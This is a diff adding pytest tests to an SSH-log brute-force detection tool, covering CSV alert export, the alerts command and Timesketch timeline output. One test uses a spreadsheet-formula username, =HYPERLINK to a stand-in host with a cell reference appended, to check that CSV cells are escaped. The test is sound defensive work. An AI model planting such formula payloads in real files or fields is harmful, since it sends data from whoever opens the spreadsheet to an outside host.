@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
 import re
 from pathlib import Path
 
@@ -93,3 +94,55 @@ def test_show_refuses_an_ambiguous_prefix(openssh_case):
     db, _ = openssh_case
     result = tocsin("show", "0", "--db", str(db))
     assert result.returncode == 2 and "ambiguous" in result.stderr and "Traceback" not in result.stderr
+
+
+FORMULA_USER = "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"
+
+
+def _formula_log(path: Path) -> Path:
+    """Ten failed logins for a user named like a spreadsheet formula, from one source."""
+    path.write_text("".join(
+        f"Mar  3 06:1{i}:00 web01 sshd[{100 + i}]: Failed password for invalid user {FORMULA_USER} "
+        f"from 198.51.100.66 port {4000 + i} ssh2\n" for i in range(10)
+    ))  # fmt: skip
+    return path
+
+
+def test_csv_output_is_formula_safe(tmp_path):
+    log = _formula_log(tmp_path / "formula.log")
+    result = tocsin("scan", str(log), "--format", "csv", "-o", str(tmp_path / "alerts.csv"))
+    assert result.returncode == 0, result.stderr
+    assert (tmp_path / "alerts.csv").stat().st_mode & 0o777 == 0o600
+    rows = list(csv.DictReader((tmp_path / "alerts.csv").open(newline="")))
+    assert {row["rule"] for row in rows} == {"Brute Force From One Source", "Brute Force Against One Account"}
+    per_account = next(row for row in rows if row["rule"] == "Brute Force Against One Account")
+    assert per_account["user"] == "'" + FORMULA_USER and per_account["event_count"] == "10"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+    events = list(csv.DictReader(io.StringIO(tocsin("events", str(log), "--format", "csv", "--limit", "4").stdout)))
+    assert len(events) == 4 and events[0]["user.name"] == "'" + FORMULA_USER
+    assert events[0]["original"].startswith("Mar  3 06:10:00 web01 sshd[100]: Failed password")
+
+
+def test_alerts_csv_from_a_case_database(openssh_case):
+    db, scanned = openssh_case
+    rows = list(csv.DictReader(io.StringIO(tocsin("alerts", "--db", str(db), "--format", "csv").stdout)))
+    assert sorted(row["id"] for row in rows) == sorted(a["id"] for a in scanned)
+    brute = next(row for row in rows if row["source"] == BRUTE_FORCE_IP and row["rule"].startswith("Brute"))
+    assert brute["event_count"] == "286" and brute["first_seen"] == "2025-12-10T10:54:29Z"
+
+
+def test_timeline_for_timesketch(tmp_path):
+    sample = str(shared("authlogs/OpenSSH_2k.log"))
+    as_csv, as_jsonl = tmp_path / "timeline.csv", tmp_path / "timeline.jsonl"
+    assert tocsin("scan", sample, "-o", os.devnull, "--timeline", str(as_csv)).returncode == 0
+    assert tocsin("scan", sample, "-o", os.devnull, "--timeline", str(as_jsonl)).returncode == 0
+    rows = list(csv.DictReader(as_csv.open(newline="")))
+    documents = jsonl(as_jsonl.read_text())
+    assert len(rows) == len(documents) == 16
+    assert [row["alert_id"] for row in rows] == [d["alert_id"] for d in documents]
+    times = [row["datetime"] for row in rows]
+    assert times == sorted(times) and times[0] == "2025-12-10T07:27:52Z"
+    assert all({"datetime", "timestamp_desc", "message"} <= set(d) and d["message"] for d in documents)
+    brute = next(d for d in documents if d["source"] == BRUTE_FORCE_IP and d["rule"].startswith("Brute"))
+    assert brute["timestamp_desc"] == "Detection window start" and brute["datetime"] == "2025-12-10T10:54:29Z"
+    assert brute["message"].startswith("[high] Brute Force From One Source: 286 events")
